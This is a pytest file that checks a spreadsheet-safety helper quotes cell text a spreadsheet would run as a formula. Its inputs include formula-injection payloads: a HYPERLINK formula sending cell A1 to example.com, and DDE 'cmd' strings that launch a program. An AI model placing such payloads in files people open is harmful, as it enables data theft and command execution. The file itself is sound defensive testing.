"""Text that a spreadsheet would run as a formula is neutralised in every file Smeaton
writes for people to open; numbers stay numbers."""

import pytest

from smeaton.analytics.spreadsheet import safe, safe_row


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://example.com/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=", "-", "+", "@",
])
def test_text_a_spreadsheet_would_take_for_a_formula_gets_a_quote_first(text):
    assert safe(text) == "'" + text


@pytest.mark.parametrize("value", [
    "C1", "", " =1+1", "'=1", "A=1", "1+1", "-5", "+5", "-2.5", "-1,234.5", "-26.0%", "O'Neil",
    -5, -2.5, 0, None, True,
])
def test_anything_else_is_written_as_it_is(value):
    assert safe(value) == value


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1", -1, "-1", None]) == ["'=1", -1, "-1", None]
